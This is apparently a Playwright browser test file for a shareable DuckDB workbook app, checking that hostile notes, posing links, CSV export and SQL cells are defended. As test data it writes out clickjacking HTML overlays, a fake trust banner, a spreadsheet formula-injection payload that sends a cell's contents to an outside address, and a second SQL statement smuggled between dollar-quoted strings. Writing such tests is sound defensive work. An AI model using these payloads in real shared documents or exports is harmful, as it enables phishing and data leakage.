// Notes from hostile share links: markup that tries to lie over the app (a transparent link over
// Run all, a fake review banner) and links that pose as other addresses. A click where the user
// aims must reach the app, and nothing may leave the page's origin (the harness fails any test
// where a request does).
import type { Locator, Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { encodeShareHash } from '../../src/engine/share-link.ts';
import { emptyWorkbook, type Cell } from '../../src/engine/workbook.ts';
import { SLOW, checkA11y, gotoApp, gridRows, sqlCell, useBrowser, waitForStatus, type App } from './harness.ts';

const session = useBrowser();

// Nothing listens there; a request to it would still be recorded as one that left the origin.
const ELSEWHERE = 'http://127.0.0.1:9';

const BANNER_TEXT = 'Shared workbook: review it, then press Run all.';

function note(id: string, text: string): Cell {
  return { id, kind: 'markdown', text };
}

async function openHostile(cells: Cell[]): Promise<App> {
  const app = await session.open({ noGoto: true });
  const hash = await encodeShareHash({ workbook: { ...emptyWorkbook('Hostile notes'), cells }, data: {} });
  await gotoApp(app.page, `${inject('baseURL')}${hash}`);
  await banner(app.page).waitFor({ timeout: SLOW });
  await app.page.locator('.markdown').first().locator('p').first().waitFor();
  return app;
}

function banner(page: Page): Locator {
  return page.getByRole('status').filter({ hasText: BANNER_TEXT });
}

function runAll(page: Page): Locator {
  return page.getByRole('button', { name: 'Run all' });
}

/** The centre of `target`, and whether the element a click there reaches is inside it. */
async function hitAtCentre(target: Locator): Promise<{ x: number; y: number; reached: boolean; hit: string }> {
  const box = await target.boundingBox();
  if (!box) throw new Error('target is not shown');
  const x = box.x + box.width / 2;
  const y = box.y + box.height / 2;
  const { reached, hit } = await target.evaluate((el, [px, py]) => {
    const at = document.elementFromPoint(px, py);
    return { reached: at !== null && el.contains(at), hit: at ? at.outerHTML.slice(0, 120) : 'nothing' };
  }, [x, y] as const);
  return { x, y, reached, hit };
}

/** Clicks where the user aims at the banner and then at Run all; both must be what the click reaches. */
async function clickBannerThenRunAll(app: App): Promise<void> {
  const { page, context, origin } = app;
  const onBanner = await hitAtCentre(banner(page));
  expect(onBanner.reached, `a click on the banner reaches ${onBanner.hit}`).toBe(true);
  const onRun = await hitAtCentre(runAll(page));
  expect(onRun.reached, `a click on Run all reaches ${onRun.hit}`).toBe(true);
  await page.mouse.click(onBanner.x, onBanner.y);
  await page.mouse.click(onRun.x, onRun.y);
  await waitForStatus(sqlCell(page, 'answer'), 'done');
  expect(new URL(page.url()).origin).toBe(origin);
  expect(context.pages()).toHaveLength(1);
}

/** Every element of every note: none may carry style, class, id or role, nor sit outside its note. */
async function noteMarkup(page: Page) {
  return page.locator('.markdown').evaluateAll((notes) =>
    notes.flatMap((n) => {
      const box = n.getBoundingClientRect();
      return [...n.querySelectorAll('*')].flatMap((el) => {
        const r = el.getBoundingClientRect();
        const styled = ['style', 'id', 'role'].filter((a) => el.hasAttribute(a)).concat([...el.classList].filter((c) => c !== 'link-destination'));
        const outside = r.width > 0 && (r.left < box.left - 1 || r.top < box.top - 1 || r.right > box.right + 1 || r.bottom > box.bottom + 1);
        return styled.length || outside ? [`${el.tagName} ${styled.join(' ')}${outside ? ' outside its note' : ''}`] : [];
      });
    }),
  );
}

const ANSWER: Cell = { id: 'answer', kind: 'sql', name: 'answer', sql: 'SELECT 42 AS answer' };

describe('hostile notes cannot cover the app', () => {
  it('a full-screen transparent link over Run all stays inside its note; the click runs the workbook', async () => {
    const app = await openHostile([
      note('n1', `Read me first.\n\n<a href="${ELSEWHERE}/phish" style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;opacity:0;display:block;background:transparent">&nbsp;</a>`),
      ANSWER,
    ]);
    await clickBannerThenRunAll(app);
    expect(await noteMarkup(app.page)).toEqual([]);
  });

  it('even markup that got past the sanitiser paints only inside its note', async () => {
    const app = await openHostile([note('n1', 'Read me first.'), ANSWER]);
    // Put in by hand, as a sanitiser bug would let it through: the note's box must still hold it.
    await app.page.locator('.markdown').first().evaluate((box, href) => {
      box.insertAdjacentHTML('beforeend', `<a href="${href}/phish" style="position:fixed;inset:0;z-index:2147483647;opacity:0.01;display:block">&nbsp;</a>`);
      box.insertAdjacentHTML('beforeend', '<div style="position:absolute;top:-100vh;left:0;width:100vw;height:300vh;z-index:2147483647;background:red"></div>');
    }, ELSEWHERE);
    await clickBannerThenRunAll(app);
  });

  it('a note styled as the review banner is plain text in its note, and the real banner stays on top', async () => {
    const fake = `<div class="review" role="status" style="position:fixed;top:0;left:0;right:0;z-index:99999;background:#e8effd;border-left:4px solid #1d4ed8;padding:4rem 1rem">
<a href="${ELSEWHERE}/trust" style="display:block;position:absolute;inset:0;margin-top:-300px;transform:translateY(-200px)"><strong>${BANNER_TEXT}</strong> This workbook is verified: press here to trust it.</a></div>`;
    const app = await openHostile([note('n1', `Welcome.\n\n${fake}`), ANSWER]);
    const { page } = app;
    expect(await page.getByRole('status').filter({ hasText: BANNER_TEXT }).count()).toBe(1);
    expect(await noteMarkup(page)).toEqual([]);
    await clickBannerThenRunAll(app);
  });
});

describe('links in notes are honest', () => {
  it('opens another origin in a new tab without opener, shows its destination on focus and hover, and passes axe', async () => {
    const { page } = await openHostile([
      note('n1', `See [the DuckDB docs](https://duckdb.org/docs/) and [https://bank.example/login](${ELSEWHERE}/login).`),
      ANSWER,
    ]);
    const docs = page.getByRole('link', { name: 'the DuckDB docs' });
    expect(await docs.getAttribute('target')).toBe('_blank');
    expect(await docs.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await docs.getAttribute('title')).toBe('https://duckdb.org/docs/');
    const hint = docs.locator('xpath=following-sibling::span[1]');
    expect(await hint.isVisible()).toBe(false);
    // Reached by keyboard, as a person would: back from the note's Edit button, over the second link.
    await page.getByRole('button', { name: 'Edit note' }).focus();
    await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Shift+Tab');
    expect(await docs.evaluate((a) => a === document.activeElement)).toBe(true);
    expect(await hint.isVisible()).toBe(true);
    expect(await hint.innerText()).toContain('https://duckdb.org/docs/');
    await checkA11y(page, 'note with links, a link focused');
    await page.keyboard.press('Tab');
    expect(await hint.isVisible()).toBe(false);
    await docs.hover();
    expect(await hint.isVisible()).toBe(true);

    // Text that names one address while the link goes to another shows the real one.
    const posing = page.locator('.markdown a').nth(1);
    expect(await posing.innerText()).toBe(`${ELSEWHERE}/login`);
    expect(await page.getByText('https://bank.example/login').count()).toBe(0);

    await checkA11y(page, 'note with links, one hovered');
  });
});

describe('CSV export in the browser', () => {
  it('writes formula-like text as text, and negative numbers as numbers', async () => {
    const { page } = await openHostile([
      note('n1', 'A table to download.'),
      { id: 'answer', kind: 'sql', name: 'answer', sql: `SELECT '=HYPERLINK("${ELSEWHERE}/?d="&B2,"Open")' AS link, '@SUM(1+1)' AS at, -5 AS n, -2.50::DECIMAL(5,2) AS amount` },
    ]);
    await runAll(page).click();
    const cell = sqlCell(page, 'answer');
    await waitForStatus(cell, 'done');
    const [file] = await Promise.all([page.waitForEvent('download', { timeout: SLOW }), cell.getByRole('button', { name: 'Download CSV of answer' }).click()]);
    const text = (await file.createReadStream().then((s) => s.toArray())).map((b: Buffer) => b.toString('utf8')).join('');
    expect(text).toBe(`link,at,n,amount\r\n"'=HYPERLINK(""${ELSEWHERE}/?d=""&B2,""Open"")","'@SUM(1+1)",-5,-2.50\r\n`);
  });
});

describe('a SQL cell from a link runs one statement in the browser too', () => {
  it('refuses a second statement hidden between dollar-quoted strings, and creates nothing', async () => {
    const { page } = await openHostile([
      note('n1', 'Two harmless queries.'),
      { id: 'hidden', kind: 'sql', name: 'hidden', sql: "SELECT $$'$$ AS q; CREATE TABLE planted AS SELECT 42; SELECT $$'$$ AS q" },
      { id: 'answer', kind: 'sql', name: 'answer', sql: "SELECT count(*) AS n FROM duckdb_tables() WHERE table_name = 'planted'" },
    ]);
    await runAll(page).click();
    await waitForStatus(sqlCell(page, 'hidden'), 'error');
    expect(await sqlCell(page, 'hidden').getByRole('alert').innerText()).toContain('holds 3 statements');
    await waitForStatus(sqlCell(page, 'answer'), 'done');
    await expect.poll(() => gridRows(sqlCell(page, 'answer'))).toEqual([['0']]);
  });
});
